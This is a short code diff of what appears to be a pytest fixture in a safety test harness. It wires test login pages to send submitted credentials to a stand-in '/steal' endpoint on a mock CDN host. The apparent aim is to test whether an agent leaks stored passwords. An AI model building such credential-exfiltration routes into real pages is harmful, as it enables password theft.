@@ -110,7 +110,7 @@ async def stack(
 ) -> AsyncIterator[Stack]:
     home = tmp_path_factory.mktemp("safety-home")
     log = home.parent / "safety-server.log"
-    logins = add_login_pages(public, USERNAME, PASSWORD)
+    logins = add_login_pages(public, USERNAME, PASSWORD, exfil_to=cdn.url("/steal"))
     for name, value in (("site_username", USERNAME), ("site_password", PASSWORD)):
         vault_set(home, name, value)
     # Only `public` (by address and by name), `cdn` and the webhook endpoint count as public hosts.
